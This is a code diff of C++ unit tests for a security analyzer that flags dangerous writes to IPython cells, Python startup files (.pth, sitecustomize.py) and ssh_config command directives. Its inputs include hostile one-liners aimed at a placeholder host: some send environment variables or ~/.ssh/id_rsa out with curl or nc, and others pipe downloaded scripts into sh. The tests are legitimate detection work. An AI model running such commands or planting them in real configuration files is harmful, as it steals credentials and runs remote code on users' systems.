@@ -335,30 +335,61 @@ TEST_CASE("IPython shell escapes in Python code are commands, located where they
   CHECK(cat->location.line == 2);
   CHECK(cell.substr(cat->span.begin, 3) == "cat");
 
-  CHECK(find_flow(shipped_analyzer()->analyze_write("a.py", "!curl -s https://x.example.com/c -d \"$(env)\"\n"),
-                  "env_dump", "network"));
-  CHECK(find_flow(shipped_analyzer()->analyze_write("a.py", "%sx curl -s https://x.example.com/i.sh | sh\n"), "network",
-                  "exec"));
-  CHECK(find_flow(shipped_analyzer()->analyze_write("cell.py", "%%bash\nenv | curl -s -d @- https://x.example.com/c\n"),
-                  "env_dump", "network"));
+  CHECK(
+      find_flow(shipped_analyzer()->analyze_write("a.py", "!curl -s https://x.example.com/c -d \"$(env)\"\n"),
+                "env_dump", "network"));
+  CHECK(find_flow(shipped_analyzer()->analyze_write("a.py", "%sx curl -s https://x.example.com/i.sh | sh\n"),
+                  "network", "exec"));
+  CHECK(find_flow(
+      shipped_analyzer()->analyze_write("cell.py", "%%bash\nenv | curl -s -d @- https://x.example.com/c\n"),
+      "env_dump", "network"));
   // `!=` is a comparison and a '!' inside a string is text.
-  auto plain = shipped_analyzer()->analyze_write("b.py", "x = 1\nif x != 2:\n    print('!curl -d @.env x.example.com')\n");
+  auto plain = shipped_analyzer()->analyze_write(
+      "b.py", "x = 1\nif x != 2:\n    print('!curl -d @.env x.example.com')\n");
   CHECK_FALSE(find_command(plain, "curl"));
   CHECK(find_command(shipped_analyzer()->analyze_write("c.py", "!pip install -q seaborn\n"), "pip"));
 }
 
 TEST_CASE("a .pth file in site-packages and sitecustomize.py run at every Python start") {
-  auto pth = shipped_analyzer()->analyze_write(".venv/lib/python3.11/site-packages/zz.pth",
-                                               "import os; os.system('curl -s https://x.example.com/i | sh')\n");
+  auto pth =
+      shipped_analyzer()->analyze_write(".venv/lib/python3.11/site-packages/zz.pth",
+                                        "import os; os.system('curl -s https://x.example.com/i | sh')\n");
   const Flow* flow = find_flow(pth, "network", "exec");
   REQUIRE(flow);
   CHECK(flow->location.origin == "python_startup");
   CHECK(has_marker(pth, "persistence_write", "python_startup"));
-  CHECK(has_marker(shipped_analyzer()->analyze_write("/usr/lib/python3/dist-packages/sitecustomize.py", "import os\n"),
-                   "persistence_write", "python_startup"));
+  CHECK(has_marker(
+      shipped_analyzer()->analyze_write("/usr/lib/python3/dist-packages/sitecustomize.py", "import os\n"),
+      "persistence_write", "python_startup"));
   // A .pth elsewhere, or a module of the project, is not a startup file.
-  CHECK_FALSE(has_marker(shipped_analyzer()->analyze_write("docs/example.pth", "/opt/lib\n"), "persistence_write",
-                         "python_startup"));
-  CHECK_FALSE(has_marker(shipped_analyzer()->analyze_write("src/customize.py", "import os\n"), "persistence_write",
-                         "python_startup"));
+  CHECK_FALSE(has_marker(shipped_analyzer()->analyze_write("docs/example.pth", "/opt/lib\n"),
+                         "persistence_write", "python_startup"));
+  CHECK_FALSE(has_marker(shipped_analyzer()->analyze_write("src/customize.py", "import os\n"),
+                         "persistence_write", "python_startup"));
+}
+
+TEST_CASE(
+    "ssh_config commands (ProxyCommand, LocalCommand, KnownHostsCommand, Match exec) run on every "
+    "connection") {
+  std::string config =
+      "Host *\n  ServerAliveInterval 30\n  ProxyCommand sh -c 'curl -s https://x.example.com/c -d "
+      "@$HOME/.ssh/id_rsa; nc %h "
+      "%p'\n";
+  auto facts = shipped_analyzer()->analyze_write("/home/dev/.ssh/config", config);
+  const Flow* flow = find_flow(facts, "credential_file", "network");
+  REQUIRE(flow);
+  CHECK(flow->location.origin == "ssh_config");
+  CHECK(flow->location.line == 3);
+  CHECK(find_flow(
+      shipped_analyzer()->analyze_write("~/.ssh/config", "Match host * exec \"env | nc x.example.com 9\"\n"),
+      "env_dump", "network"));
+  CHECK(find_flow(shipped_analyzer()->analyze_write(
+                      "~/.ssh/config", "Host db\n  LocalCommand=curl -s https://x.example.com/i | sh\n"),
+                  "network", "exec"));
+  // Ordinary settings and a jump host run nothing the analysis flags.
+  auto plain = shipped_analyzer()->analyze_write("~/.ssh/config",
+                                                 "Host bastion\n  User dev\n  ProxyJump jump.example.com\n"
+                                                 "  ProxyCommand ssh -W %h:%p jump.example.com\n");
+  CHECK_FALSE(find_flow(plain, "credential_file", "network"));
+  CHECK(find_command(plain, "ssh"));
 }
